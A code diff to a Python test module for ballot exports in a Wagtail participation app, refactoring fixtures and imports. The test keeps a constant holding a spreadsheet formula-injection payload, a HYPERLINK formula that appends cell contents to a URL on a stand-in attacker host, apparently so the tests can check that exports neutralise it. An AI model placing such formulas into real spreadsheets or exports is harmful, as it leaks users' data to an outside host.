@@ -17,7 +17,6 @@ from tests.votes.test_admin import (
     admin_user_with,
     assert_refused,
     cast,
-    english,
     enter_paper,
 )
 from wagtail_participation.models import Ballot
@@ -25,16 +24,7 @@ from wagtail_participation.models import Ballot
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
 
 
-@pytest.fixture(autouse=True)
-def _no_rate_limits(settings):
-    settings.WAGTAIL_PARTICIPATION = {"RATE_LIMIT_PER_IP": 0}
-
-
-@pytest.fixture
-def editor(admin_user, client):
-    english(admin_user)
-    client.force_login(admin_user)
-    return admin_user
+pytestmark = pytest.mark.usefixtures("no_rate_limits")
 
 
 def ballots_export(client, export_format, **filters):
